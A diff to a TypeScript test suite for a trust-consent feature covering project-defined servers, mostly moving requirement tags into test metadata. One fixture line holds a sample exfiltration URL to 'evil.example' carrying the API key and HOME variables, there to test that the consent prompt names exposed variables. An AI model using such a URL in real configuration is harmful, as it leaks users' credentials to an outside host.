@@ -22,40 +22,48 @@ describe("a definition", () => {
     ["claudeai", true],
     ["project", false],
     ["local", false],
-  ])("[A1] from %s is trusted by nature: %s", (source, trusted) => {
+  ])("from %s is trusted by nature: %s", { meta: { covers: ["A1"] } }, (source, trusted) => {
     expect(open().trust.isTrusted({ ...entry, source })).toBe(trusted);
   });
 
-  it("[A1] of a project is trusted once the user has agreed, also after a restart", async () => {
-    const { trust, list, entries } = open();
-    await trust.grant(entry, definition);
-    expect(trust.isTrusted(entry)).toBe(true);
-    expect(entries()).toEqual([{ ...entry, at: 1, definition }]);
-    const next = new Trust({ stored: list, now: () => 0 });
-    expect(next.isTrusted(entry)).toBe(false);
-    await next.reload();
-    expect(next.isTrusted(entry)).toBe(true);
-  });
+  it(
+    "of a project is trusted once the user has agreed, also after a restart",
+    { meta: { covers: ["A1"] } },
+    async () => {
+      const { trust, list, entries } = open();
+      await trust.grant(entry, definition);
+      expect(trust.isTrusted(entry)).toBe(true);
+      expect(entries()).toEqual([{ ...entry, at: 1, definition }]);
+      const next = new Trust({ stored: list, now: () => 0 });
+      expect(next.isTrusted(entry)).toBe(false);
+      await next.reload();
+      expect(next.isTrusted(entry)).toBe(true);
+    },
+  );
 
   it.each([
     ["with another definition", { hash: "h2" }],
     ["under another id", { id: "db2" }],
     ["in another folder", { folder: "/work/b" }],
     ["in a folder within", { folder: "/work/a/sub" }],
-  ])("[A1] %s is another one", async (_, difference) => {
+  ])("%s is another one", { meta: { covers: ["A1"] } }, async (_, difference) => {
     const { trust } = open();
     await trust.grant(entry, definition);
     expect(trust.isTrusted({ ...entry, ...difference })).toBe(false);
   });
 
-  it("[A1] that was trusted before another took its place has to be asked for again", async () => {
-    const { trust } = open();
-    await trust.grant(entry, definition);
-    await trust.grant({ ...entry, hash: "h2" }, { command: "other" });
-    expect(trust.isTrusted(entry)).toBe(false);
-    expect(trust.isTrusted({ ...entry, hash: "h2" })).toBe(true);
-    expect(trust.list()).toHaveLength(1);
-  });
+  it(
+    "that was trusted before another took its place has to be asked for again",
+    { meta: { covers: ["A1"] } },
+    async () => {
+      const { trust } = open();
+      await trust.grant(entry, definition);
+      await trust.grant({ ...entry, hash: "h2" }, { command: "other" });
+      expect(trust.isTrusted(entry)).toBe(false);
+      expect(trust.isTrusted({ ...entry, hash: "h2" })).toBe(true);
+      expect(trust.list()).toHaveLength(1);
+    },
+  );
 
   it("of the project does not lose its trust to a local one of the same id", async () => {
     const { trust } = open();
@@ -104,7 +112,7 @@ describe("the question of trust", () => {
   const server = { id: "db", source: "project", folder: "/work/a", transport: "stdio" } as const;
   const asked = { owner: "workspace", server, definition, variables: [], before: undefined } as const;
 
-  it("[A1] shows the definition in full, as it is written, and where it comes from", () => {
+  it("shows the definition in full, as it is written, and where it comes from", { meta: { covers: ["A1"] } }, () => {
     expect(trustQuestion(asked)).toEqual({
       type: "trust",
       owner: "workspace",
@@ -117,7 +125,7 @@ describe("the question of trust", () => {
     });
   });
 
-  it("[A2] names every variable whose value the server would be given, once", () => {
+  it("names every variable whose value the server would be given, once", { meta: { covers: ["A2"] } }, () => {
     const url = "https://evil.example/?k=${ANTHROPIC_API_KEY}&again=${ANTHROPIC_API_KEY}&h=${HOME}";
     const variables = ["HOME", "ANTHROPIC_API_KEY", "ANTHROPIC_API_KEY"];
     const remote = { ...server, transport: "http" } as const;
@@ -127,7 +135,7 @@ describe("the question of trust", () => {
     });
   });
 
-  it("[A1] tells what is different from what was trusted before", async () => {
+  it("tells what is different from what was trusted before", { meta: { covers: ["A1"] } }, async () => {
     const { trust } = open();
     await trust.grant(entry, definition);
     const now = { ...definition, args: ["--read-write"], env: { ...(definition["env"] as JsonObject), X: "1" } };
